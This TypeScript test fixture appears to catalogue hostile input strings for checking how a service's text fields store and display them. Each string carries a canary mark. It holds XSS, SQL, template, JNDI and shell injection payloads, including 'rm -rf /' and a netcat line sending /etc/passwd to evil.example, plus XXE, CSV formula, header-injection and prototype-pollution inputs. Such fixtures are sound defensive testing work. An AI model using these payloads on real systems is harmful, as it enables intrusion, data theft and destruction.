/**
 * Texts that somebody sends who means harm, or whose keyboard, converter or copy does: each with what it would do where it
 * is taken for something else than text. All of them are texts, so all that a database can hold are kept as they are.
 */
export interface HostileText { readonly name: string; readonly why: string; readonly text: string }

/** Stands in every text that is long enough for a sentence; nothing of the service says it, so a log that holds it repeats people. */
export const MARK = 'canary-hostile';

type Kind = Readonly<Record<string, string>>;
const kind = (why: string, texts: Kind): HostileText[] => Object.entries(texts).map(([name, text]) => ({ name, why, text }));

const MARKUP = kind('runs in a page that shows it unescaped', {
  'a script': `<script>globalThis.hurt=1;alert('${MARK}')</script>`, 'a script that ends another': `</script><script>alert('${MARK}')</script>`, 'a picture that fails': `<img src=x onerror="alert('${MARK}')">`,
  'a drawing': `<svg/onload=alert('${MARK}')>`, 'the end of a title and a box': `</title></textarea></style><script>alert('${MARK}')</script>`, 'the end of an attribute': `" autofocus onfocus="alert('${MARK}')" x="`,
  'the end of an attribute, quoted once': `' onmouseover='alert(1)' ${MARK}`, 'a link that runs': `javascript:alert('${MARK}')//`, 'a frame': `<iframe srcdoc="<script>parent.alert('${MARK}')</script>">`, 'a form of its own': `<form action=//evil.example><input name=p value=${MARK}>`,
  'a foreign picture': `<img src="//evil.example/${MARK}.png"><link rel=stylesheet href=//evil.example/x.css>`, 'an entity': `&lt;b&gt; &#60;script&#62; &amp;amp; ${MARK}`, 'a comment': `<!-- ${MARK} --!><!--`,
  'a file by XML': `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f; ${MARK}</x>`, 'an entity that grows': `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>&b;${MARK}`, 'a style': `<style>@import url(//evil.example/${MARK});</style>`, 'a data address': `data:text/html,<script>alert('${MARK}')</script>`,
});
const TEMPLATES = kind('is filled in by a template that takes it for one of its own', {
  'doubled braces': `{{constructor.constructor("return process")().exit()}} ${MARK}`, 'a dollar and braces': `\${7*7} \${process.env.DATABASE_URL} ${MARK}`, 'a message with a plural': `{count, plural, one {#} other {{x}} ${MARK}`, 'a broken message': `'{' {0} {a {b ${MARK}`,
  'a directive': `<%= system("id") %> #{7*7} ${MARK}`, 'places of printf': `%s%s%n%x%99999999d ${MARK}`, 'places of replace': `$& $1 $\` $' $$ ${MARK}`, 'a lookup': `\${jndi:ldap://evil.example/${MARK}}`,
});
const QUERIES = kind('is run by a database that gets it as part of a statement', {
  'an end and a drop': `'; DROP TABLE hotline.cases; -- ${MARK}`, 'always true': `' OR '1'='1' /* ${MARK}`, 'dollar quotes': `$$; SELECT pg_sleep(9); $$ ${MARK}`, 'a program': `'; COPY x FROM PROGRAM 'touch /tmp/${MARK}'; --`, 'wildcards': `%_%\\%\\_ ${MARK}`,
  'an escape': `\\'; SELECT 1; -- E'\\x00' ${MARK}`, 'another side': `', set_config('hotline.side', 'CN', true), ' ${MARK}`, 'a placeholder': `$1 $2 :name ? ${MARK}`, 'an operator': `{"$gt":""} ${MARK}`, 'a regular expression': `((((a+)+)+)+)+$ ${MARK}`, 'a search': `a & !b | (c <-> d):* ${MARK}`,
});
const SHELL = kind('is run by a shell, or leads out of a folder', {
  'a command inside': `$(touch /tmp/${MARK}) \`id\``, 'a command after': `; rm -rf / ; ${MARK}`, 'a pipe': `| nc evil.example 1 < /etc/passwd & ${MARK}`, 'an option': `--output=/tmp/${MARK}`, 'a path': `../../../../etc/passwd ${MARK}`, 'an escaped path': `..%2f..%2f..%5cetc%00 ${MARK}`,
  'a device of Windows': `CON.txt:$DATA ${MARK}`, 'a share': `\\\\evil.example\\${MARK}`,
});
const FORMULAS = kind('is computed by a spreadsheet that opens an export', {
  'an equals sign': `=HYPERLINK("http://evil.example/"&A1,"${MARK}")`, 'a plus': `+1+cmd|' /C calc'!A0 ${MARK}`, 'a minus': `-1+1 ${MARK}`, 'an at sign': `@SUM(1+1)*cmd|' /C calc'!A0 ${MARK}`, 'a full-width sign': `＝1+1 ${MARK}`, 'a sign behind a tab': `\t=1+1 ${MARK}`,
  'a sign behind a line end': `\r\n=1+1 ${MARK}`, 'a sign behind what is not seen': `\u200b\ufeff\u2060=1+1 ${MARK}`, 'a sign behind a quote': `"=1+1 ${MARK}`, 'a sign in a second cell': `a","=1+1","${MARK}`, 'a sign in a second row': `a\n=1+1 ${MARK}`, 'another separator': `a;=1+1;${MARK}`,
});
const DIRECTIONS = kind('turns the words beside it, so that a reader sees something else', {
  'an override that is not closed': `urea\u202e${MARK}`, 'an embedding that is not closed': `\u202b${MARK} (1)`, 'isolates that are not closed': `\u2066\u2067\u2068${MARK}`, 'closings without an opening': `\u2069\u202c\u2069${MARK}`, 'a script from the right': `اليوريا ${MARK} יוריאה 3,2`,
  'a hidden extension': `annex\u202efdp.exe ${MARK}`, 'marks alone': `\u200f\u200e\u061c${MARK}`,
});
const UNSEEN = kind('is not seen, or not told apart', {
  'zero width': `u\u200br\u200ce\u200da\u2060${MARK}`, 'a byte order mark': `\ufeff${MARK}`, 'letters of tags': `${MARK}\u{e0061}\u{e0062}\u{e007f}`, 'soft hyphens and fillers': `\u00ad\u3164\u115f\u17b4${MARK}`, 'variation': `요\ufe0f소\u{e0100} ${MARK}`, 'look-alikes': `сustоms раyраl ${MARK}`,
  'two forms of one word': `요소 요소 é é ${MARK}`, 'what folds to more': `ﬃ ﷽ ß İ ı ŉ ${MARK}`, 'full width': `＜ｓｃｒｉｐｔ＞ ＇；－－ ${MARK}`, 'blanks of all kinds': `a\u00a0\u2003\u3000\u2028\u2029\u0085\v\f${MARK}`,
});
const FLOODS = kind('takes long to show, to search or to compare', {
  'marks without end': `e${'\u0301\u0308\u0334'.repeat(300)}${MARK}`, 'marks without a letter': `\u0301\u0308${MARK}`, 'a family': `${'👨‍👩‍👧‍👦🏽'.repeat(40)}${MARK}`, 'one letter': `${'a'.repeat(9_000)}! ${MARK}`, 'addresses': `${'a@'.repeat(1_000)}${MARK}`, 'openings': `${'[{(<'.repeat(1_000)}${MARK}`,
  'jamo': `${'ᄀ'.repeat(500)}${'ᅡ'.repeat(500)}${MARK}`, 'line ends': `${'\n'.repeat(2_000)}${MARK}`, 'backslashes and quotes': `${'\\"'.repeat(2_000)}${MARK}`, 'the most that is taken': '요'.repeat(10_000 - MARK.length) + MARK,
});
const SIGNS = kind('is a sign for a terminal, a log, a header or a parser', {
  'colours of a terminal': `\u001b[2J\u001b]0;${MARK}\u0007\u001b[31m`, 'controls': `\u0001\u0008\u007f\u009b${MARK}`, 'a line of a log': `x\n{"level":60,"msg":"${MARK}"}`, 'a header': `x\r\nSet-Cookie: hotline_session=${MARK}\r\n\r\n<html>`, 'an escaped header': `%0d%0aLocation:%20//evil.example ${MARK}`,
  'what is no character': `\uffff\ufffe\ufdd0\u{1ffff}\u{10ffff}${MARK}`, 'rare characters': `𠀀𪛖 ꧅ 𓀀 ${MARK}`, 'a replacement': `\ufffd${MARK}`, 'an end': `${MARK}\\`, 'escapes of JSON': `\\u0000 \\ud800 \\x00 ${MARK}`, 'JSON': `{"__proto__":{"admin":true},"x":"${MARK}"}`, 'a list of two': `${MARK},${MARK}`,
});
/** Short ones, for fields of codes too: they name what every object of JavaScript has, or a number, or nothing. */
const NAMES = kind('is found in every object, or is read as something else', Object.fromEntries(
  ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '-Infinity', '1e400', '-0', '0x10', '٣', '%00', '*', '.', '..', '%', '/', '\\', '#', '2026-02-30', '0000-00-00', '9999-12-31', '2026-99-99T99:99:99Z', '2147483648', '9'.repeat(40), 'KR-0000-0000', '00000000-0000-0000-0000-000000000000', 'kr', 'CN'].map((text) => [text, text]),
));

/** Texts that are kept as they are wherever a text is free. */
export const KEPT: readonly HostileText[] = [...MARKUP, ...TEMPLATES, ...QUERIES, ...SHELL, ...FORMULAS, ...DIRECTIONS, ...UNSEEN, ...FLOODS, ...SIGNS, ...NAMES];

/** Texts that no field takes: a database cannot hold them, nobody can read them, or they are longer than any field. */
export const REFUSED: readonly HostileText[] = [
  ...kind('ends a text for programs written in C, and cannot be stored', { 'NUL': '\u0000', 'NUL in a text': `${MARK}\u0000${MARK}` }),
  ...kind('is half a character, which no encoding writes', { 'a first half': `${MARK}\ud800`, 'a second half': `\udc00${MARK}`, 'halves in the wrong order': `\udc00\ud800${MARK}` }),
  ...kind('fills no field', { 'nothing': '', 'blanks': ' \t\n\u3000' }),
  ...kind('is longer than any field', { 'one too many': '소'.repeat(10_001), 'a book': 'x'.repeat(200_000) }),
];

export const TEXTS: readonly HostileText[] = [...KEPT, ...REFUSED];

const deep = (levels: number): unknown => Array.from({ length: levels }).reduce<unknown>((inside, _, i) => (i % 2 ? [inside] : { a: inside }), 1);
/** Values of another kind than the field's. `JSON.parse` makes own members of `__proto__`. */
export const VALUES: readonly (readonly [name: string, value: unknown])[] = [
  ['nothing', null], ['yes', true], ['zero', 0], ['less than nothing', -1], ['nearly nothing', 1e-320], ['a fraction', 0.1], ['beyond an integer of four bytes', 2_147_483_648], ['beyond exactness', 9_007_199_254_740_992], ['nearly everything', 1.7e308], ['an empty list', []], ['an empty object', {}],
  ['lists in lists', [[[[]]]]], ['an operator', { $gt: '' }], ['what is inherited', JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{}}}')], ['an object with a text\'s methods', { length: 1, toString: 1, trim: null }], ['a list with a length', { 0: 'a', length: 4_294_967_295 }], ['a thousand levels', deep(1_000)],
  ['a long list', Array.from({ length: 20_000 }, () => MARK)], ['many members', Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`x${i}`, i]))], ['a list of one text', [MARK]], ['half a character as a name', { '\ud800': 1 }], ['NUL as a name', { '\u0000': 1 }],
];
